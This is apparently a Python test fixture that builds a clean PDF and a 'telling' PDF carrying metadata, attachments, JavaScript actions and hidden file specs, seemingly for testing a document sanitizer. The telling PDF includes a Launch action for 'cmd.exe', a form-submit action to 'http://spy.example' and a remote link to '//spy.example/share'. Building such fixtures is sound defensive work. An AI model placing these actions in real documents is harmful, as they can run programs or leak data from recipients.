"""PDF documents with all that should not stand in a copy."""

from io import BytesIO

import pikepdf
from pikepdf import Array, Dictionary, Name, Pdf, Stream, String

from tests.evidence.pictured import picture

MAKER, HIDDEN, SCRIPT = "Nomin of the archive", b"the attached ledger of the gang", "app.alert('khangai')"
SAID = "The registrar asked for money"
LINK = "https://citizen.example.mn/law"
WRITER_OF_REMARK = "reader Zaya"


def saved(document: Pdf, **how: object) -> bytes:
    content = BytesIO()
    document.save(content, compress_streams=False, object_stream_mode=pikepdf.ObjectStreamMode.disable, **how)
    return content.getvalue()


def plain_document() -> Pdf:
    """One page that says a sentence, and a link."""
    document = Pdf.new()
    page = document.add_blank_page(page_size=(400, 200)).obj
    font = Dictionary(Type=Name.Font, Subtype=Name.Type1, BaseFont=Name.Helvetica)
    page.Resources = Dictionary(Font=Dictionary({"/AA": document.make_indirect(font)}))
    page.Contents = Stream(document, f"BT /AA 14 Tf 20 100 Td ({SAID}) Tj ET".encode())
    page.Annots = Array([_annotation(document, "Link", A=Dictionary(S=Name.URI, URI=String(LINK)))])
    return document


def telling_document() -> Pdf:
    """The same, with its maker's name, scripts, a file, actions, a photograph with its EXIF, and a remark."""
    document = plain_document()
    page = document.pages[0].obj
    document.docinfo["/Author"] = MAKER
    with document.open_metadata(set_pikepdf_as_editor=False) as told:
        told["dc:creator"] = [MAKER]
    document.attachments["ledger.txt"] = HIDDEN
    script = document.make_indirect(Dictionary(S=Name.JavaScript, JS=String(SCRIPT)))
    document.Root.OpenAction = script
    document.Root.AA = Dictionary(WC=script)
    document.Root.Names.JavaScript = Dictionary(Names=Array([String("start"), script]))
    sends = Dictionary(K=Dictionary(S=Name.SubmitForm, F=String("http://spy.example")))
    field = _annotation(document, "Widget", FT=Name.Tx, T=String("reply"), AA=sends)
    document.Root.AcroForm = Dictionary(Fields=Array([field]), XFA=Stream(document, SCRIPT.encode()))
    page.AA = Dictionary(O=Dictionary(S=Name.Launch, F=String("cmd.exe")))
    page.PieceInfo = Dictionary(Editor=Dictionary(Private=String(MAKER)))
    page.Thumb = Stream(document, b"\0\0\0", Width=1, Height=1)
    file = Dictionary(Type=Name.Filespec, F=String("b.txt"), EF=Dictionary(F=Stream(document, HIDDEN)))
    page.Annots.extend(
        [
            _annotation(document, "FileAttachment", FS=document.make_indirect(file)),
            _annotation(document, "Link", A=script),
            _annotation(document, "Link", A=Dictionary(S=Name.GoToR, F=String("//spy.example/share"), D=String("a"))),
            _annotation(document, "Link", A=Dictionary(S=Name.URI, URI=String("file:///c:/users/zaya"))),
            field,
            _annotation(document, "Text", T=String(WRITER_OF_REMARK), Contents=String("seen by the head")),
        ]
    )
    page.Resources.XObject = Dictionary(Photo=_photograph(document))
    return document


def _annotation(document: Pdf, subtype: str, **what: object) -> pikepdf.Object:
    return document.make_indirect(
        Dictionary(Type=Name.Annot, Subtype=Name("/" + subtype), Rect=Array([10, 10, 90, 30]), **what)
    )


def _photograph(document: Pdf) -> Stream:
    return Stream(
        document,
        picture("JPEG"),
        Type=Name.XObject,
        Subtype=Name.Image,
        Width=64,
        Height=32,
        ColorSpace=Name.DeviceRGB,
        BitsPerComponent=8,
        Filter=Name.DCTDecode,
    )
